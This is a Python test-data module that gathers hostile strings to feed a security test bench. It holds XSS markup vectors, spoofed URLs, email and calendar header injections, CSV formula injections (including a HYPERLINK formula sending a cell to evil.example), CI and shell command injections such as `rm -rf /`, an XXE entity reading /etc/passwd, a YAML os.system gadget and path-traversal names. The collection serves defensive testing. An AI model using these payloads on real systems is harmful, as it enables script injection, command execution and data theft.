r"""Hostile texts, each with the number by which it is found again: the collection of ../shared/data and our own.

Our own stand for classes that the collection has few of: what browsers have learnt lately, and places that are no page.
"""

import json
from collections.abc import Iterator
from pathlib import Path

from tests.bench.hostile import tricks

SHARED = Path(__file__).resolve().parents[4] / "shared" / "data" / "security"
RECIPES = frozenset({"behaviours", "compression"})
"""Files whose rows describe what a server does; there is nothing in them to print."""
DOCUMENTS = frozenset({"feeds", "xml"})
"""Files whose rows are whole documents; they are served as such, and as texts too."""
LONGEST = 4_000
"""Characters of a text that are sent; what is longer repeats itself."""

MARKUP = (
    '<details open ontoggle=alert(1)><summary popover="x" onbeforetoggle=alert(1)>x</summary></details>',
    "<button popovertarget=top popovertargetaction=show>x</button><b id=top popover onbeforetoggle=alert(1)>x</b>",
    '<div style="content-visibility:auto" oncontentvisibilityautostatechange=alert(1)>x</div>',
    "<div onscrollsnapchange=alert(1) onscrollsnapchanging=alert(2) onscrollend=alert(3)>x</div>",
    "<x onpagereveal=alert(1) onpageswap=alert(1) oncommand=alert(1) onbeforematch=alert(1) hidden=until-found>x</x>",
    "<button commandfor=skip command=show-modal>x</button><dialog id=skip oncancel=alert(1) onclose=alert(1)></dialog>",
    "<search onauxclick=alert(1)><form action=javascript:alert(1)><input name=q></form></search>",
    "<selectedcontent><select><button onclick=alert(1)></button><option onfocus=alert(1)>x</select>",
    "<fencedframe src=https://evil.example/></fencedframe><permission type=camera></permission>",
    '<div><template shadowrootmode="open"><script>alert(1)</script><slot></slot></template></div>',
    '<template shadowroot=open><img src=x onerror=alert(1)></template><slot name="x" onslotchange=alert(1)></slot>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#x"/></svg>',
    '<svg><a id=a><animate attributeName=href values="javascript:alert(1)" dur=1s /><text y=20>x</text></a></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/><animateTransform onbegin=alert(1) attributeName=x dur=1s>',
    '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><style></noscript><img src=x onerror="alert(1)"></style>',
    "<select><iframe></select><img src=x: onerror=alert(1)>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp><listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    '<style>@import "//evil.example/a.css"; *{background:url(//evil.example/b)} :has(a){x:expression(alert())}</style>',
    '<p style="background:url(https://evil.example/p.png);position:fixed;inset:0;z-index:9">over the page</p>',
    '<link rel=stylesheet href=//evil.example/a.css><link rel="preconnect dns-prefetch" href=//evil.example>',
    "<link rel=modulepreload href=//evil.example/m.js><link rel=manifest href=//evil.example/m.json>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><meta name=referrer content=unsafe-url>',
    '<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv=set-cookie content=a=b>',
    '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
    '<script type=importmap>{"imports":{"a":"data:text/javascript,alert(1)"}}</script><script type=module>import "a"',
    "<video poster=//evil.example/p.png autoplay><source onerror=alert(1) src=x><track src=//evil.example/t></video>",
    "<img src=//evil.example/1.png srcset='//evil.example/2.png 2x' loading=eager fetchpriority=high>",
    "<a href=https://evil.example ping=https://evil.example/p attributionsrc=https://evil.example>x</a>",
    "<object data=data:text/html,<script>alert(1)</script>></object><embed src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>' sandbox=allow-scripts></iframe><portal src=//evil.example>",
    "<base target=x href=//evil.example/><a href=x id=location name=cookie>x</a><form id=document><input name=forms>",
    '<svg><style>{font-family:"<img/src=x onerror=alert(1)>"}</style><![CDATA[</svg><img src=x onerror=alert(1)>]]>',
    "<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(2)>--!><? <img src=x onerror=alert(3)> ?>",
    "</textarea></title></style></script></noscript></template><script>alert(1)</script>",
    "<ruby oncopy=alert(1)><rt><script>alert(1)</script></ruby><marquee onstart=alert(1)>x</marquee>",
    "<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
    '<a href="&#x6A;&#x61;vascript&colon;alert&lpar;1&rpar;">x</a><a href="\x01javascript:alert(1)">y</a>',
    "＜script＞alert(1)＜/script＞ ‹script›alert(1)‹/script› &amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<sCrIpT\x0c>alert(1)</ScRiPt\t\n bar><img/src=x/onerror=alert`1`><IMG SRC=x ONERROR=\u2028alert(1)>",
)
ADDRESSES = (
    "https://room.example@evil.example/",
    "https://room.example\\@evil.example/",
    "https:evil.example",
    "http:\\\\evil.example\\x",
    "////evil.example//x",
    "https://evil.example\t/\nx",
    "https://[::ffff:7f00:1]/",
    "https://0x7f.1/",
    "https://127。0。0。1/",
    "https://ev\u00adil.example/",
    "https://room.example/a?b=<script>alert(1)</script>&c='\"`",
    "https://room.example/#:~:text=<img%20src=x>",
    "https://room.example:99999/",
    "https://room.example/%0d%0aSet-Cookie:%20a=b",
    "https://room.example/x]](javascript:alert(1))",
    "https://room.example/x)![y](https://evil.example/p.png",
    "https://room.example/{{7*7}}/{static}/|index|/<?x?>",
    "https://room.example/\u202egnp.exe",
    "blob:https://room.example/1",
    "filesystem:https://room.example/temporary/x",
    "view-source:https://room.example/",
    "intent://x#Intent;scheme=http;end",
    "java\nscript:alert(1)",
    "\x00javascript:alert(1)",
    "xn--e1awd7f.example:443:80/",
    "https://аpple.example/",
    "file:///etc/passwd",
    "ftp://room.example/x",
    "feed:javascript:alert(1)",
    "mailto:a@room.example?bcc=b@evil.example&body=x%0d%0aBcc:%20c@evil.example",
    "https://room.example/" + "a/" * 900,
)
LETTERS = (
    "x\r\nBcc: everybody@evil.example\r\n\r\n<script>alert(1)</script>",
    "=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?= =?utf-8?q?=0D=0ABcc:_a=40evil.example?=",
    "x\nSubject: taken over\nContent-Type: text/html\n\n<b>x</b>",
    '"quoted" <ana@evil.example>, (comment) a@b.example; group: c@d.example;',
    "\r\n--===============0==\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "From here on\n.\nQUIT\nFrom nobody",
    "x\r\nATTENDEE:mailto:a@evil.example\r\nATTACH:https://evil.example/x.exe",
    "x\nEND:VEVENT\nBEGIN:VALARM\nACTION:EMAIL\nEND:VALARM\nBEGIN:VEVENT",
    "a\\nATTENDEE:mailto:a@evil.example\\, b\\; c \\\\n d;X-A=b:c,d",
    "ä" * 40 + "\r\n ATTENDEE:x" + "é" * 60,
)
TABLES = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "a,b;c\td|e\nf",
)
RUNNERS = (
    "::add-mask::e",
    "##[error]red",
    "##vso[task.setvariable variable=x]y",
    "::error file=a,line=1::x%0A::stop-commands::y",
    "%0A::warning::x",
    "%0D%0A::set-output name=x::y",
    "\r::debug::x",
    "\x0b::group::x",
    "\u2028::endgroup::",
    "\x85::error::x",
    "  ::save-state name=x::y",
    "::stop-commands::pause",
    "\ufeff::add-path::/tmp",
    "\u200b::set-env name=PATH::/tmp",
    "EOF\nx<<EOF\nPATH=/tmp\nEOF",
    "$(touch x) `touch x` ; touch x && touch x || touch x | touch x > x",
    "'; rm -rf / #",
    "--upload-pack=touch x",
    "-oProxyCommand=x",
    "${{ github.token }} ${{ secrets.X }}",
    "$GITHUB_OUTPUT ${PATH} %PATH% !x",
)
MARKDOWNS = (
    "| a | b |\n|---|---|\n| [x](javascript:alert(1)) | ![y](https://evil.example/p.png) |",
    "@octocat @org/team #123 org/repo#1 GH-7 0123456789abcdef0123456789abcdef01234567",
    "a\n===\n# b\n- [ ] c\n> d\n1. e\n***\n```\nf",
    "[x][y]\n\n[y]: https://evil.example 'z'\n[^1]: note",
    "<https://evil.example> www.evil.example https://evil.example/x a@evil.example",
    "![](https://evil.example/p.png)<img src=https://evil.example/q.png><details open>x</details>",
    "`` ` `` \\` ~~x~~ **y** __z__ $a$ $$b$$ :tada: ==m== ^s^ ~t~ ||spoiler||",
    "</summary></details></table>\n\n# taken over\n\n<!--",
    "[click](<https://evil.example> 'x') \\[y](https://evil.example) ]( https://evil.example )",
    "\u2028# a\u2029- b\x0b| c |\x0c> d",
    ":warning: > [!CAUTION]\n> x",
    "http://evil.example\\@x https&colon;//evil.example xmpp:a@evil.example mailto:a@evil.example",
)
TERMINALS = (
    "\x1b[2J\x1b[H\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07\x1b]52;c;aGk=\x07",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31m\x9d0;x\x9c",
    "a\rb\x08\x08c\x7f",
    "\x1bP$qm\x1b\\\x1b^x\x1b\\\x1b_y\x1b\\",
    "[red]x[/red] [link=https://evil.example]y[/link] [/] [bold",
    "\u202eevil\u202c\u2066x\u2069 \u061c\u200f",
    "Z̸̧̨̛̗̞̟̝̙͎̩̦̘͖̽̎͒̈́̽̏̓a̵͖͇͎̭̜̐̿l̶͔̈́g̴̙̀ơ̶̥",
    "𓂀" * 30 + "﷽" * 20,
    "\u200b\u200c\u200d\u2060\ufeff\u00ad\u115f\u3164",
    "\U000e0041\U000e0042 hidden tags \U000e007f",
    "a\x00b\x00",
    "a\u2028b\u2029c\x85d",
    "\ud800 half \udfff",
    "\ufffe\uffff\U0001ffff",
)
WRITINGS = (
    "]]><script>alert(1)</script>",
    "<![CDATA[x]]]]><![CDATA[><script>alert(1)</script>]]>",
    "--><script>alert(1)</script><!--",
    "--!><script>alert(1)</script>",
    '</script><script>alert(1)</script>{"@context":"x"}',
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    "&y; &#0; &#xD800; &#x110000; &nosuch; &amp;amp;",
    "!!python/object/apply:os.system ['touch x']",
    "&a [*a, *a]\n<<: *a",
    "---\ntitle: taken over\n...\n--- x",
    "- a\n- b: {c: d}\n# e",
    "x: |\n  y\n z",
    '"\\x00" \\ \'\'\' """ \\u0000',
    "? a\n: b",
    "%YAML 1.1",
    "yes",
    "NULL",
    "0o17",
    "1e3",
    "2026-11-20",
    "12:30:45",
    "~",
    "@x",
    "`x`",
    "!x",
    "*x",
    "&x",
    "key: value # comment",
    "{{ config }}{% include 'x' %}{# y #}",
    "{{ self.__init__.__globals__ }} ${7*7} #{7*7} <%= 7*7 %>",
    "{static}/../.git/config {attach}x {filename}y {index} {tag}z |static|/x |filename|y",
    "%(x)s {0.__class__} {x!r:>9} %n %s $x ${x}",
    "[[WikiLink]] [toc] ::: note\n:::\n{: .x onclick=alert(1)}",
)
NAMES = (
    "CON",
    "nul.txt",
    "com1",
    "..",
    ".",
    "../../x",
    "..\\..\\x",
    "C:\\x",
    "/etc/passwd",
    "~root",
    "x" * 300,
    "a" * 255 + ".html",
    "trailing.",
    "trailing ",
    "index.html",
    ".git",
    ".nojekyll",
    "CNAME",
    "sw.js",
    "a\x00b",
    "aux.html/../x",
    "%2e%2e%2fx",
    "İstanbul",
    "ß",
    "ﬀ",
    "é",
    "é",
    "-rf",
    "*?<>|:",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "(a+)+$",
    "[",
    "(?P<x>",
    "\\",
    "*",
    ".*.*.*=.*",
    "(?#",
)
OWN = (*MARKUP, *ADDRESSES, *LETTERS, *TABLES, *RUNNERS, *MARKDOWNS, *TERMINALS, *WRITINGS, *NAMES, *tricks.TRICKS)


def rows(name: str) -> Iterator[str]:
    """Yield the texts of a file of the collection."""
    for line in (SHARED / f"{name}.jsonl").read_text("utf-8").split("\n"):
        if line:
            yield str(json.loads(line)["payload"])


def files() -> tuple[str, ...]:
    """Return the names of the files whose rows are texts; none where the collection is not here."""
    found = sorted(path.stem for path in SHARED.glob("*.jsonl")) if SHARED.is_dir() else []
    return tuple(name for name in found if name not in RECIPES)


def every() -> tuple[str, ...]:
    """Return every text, each once: our own first."""
    theirs = (text[:LONGEST] for name in files() for text in rows(name))
    return tuple(dict.fromkeys((*OWN, *theirs)))


def documents() -> tuple[str, ...]:
    """Return what is served as a whole document."""
    return tuple(text for name in files() if name in DOCUMENTS for text in rows(name))
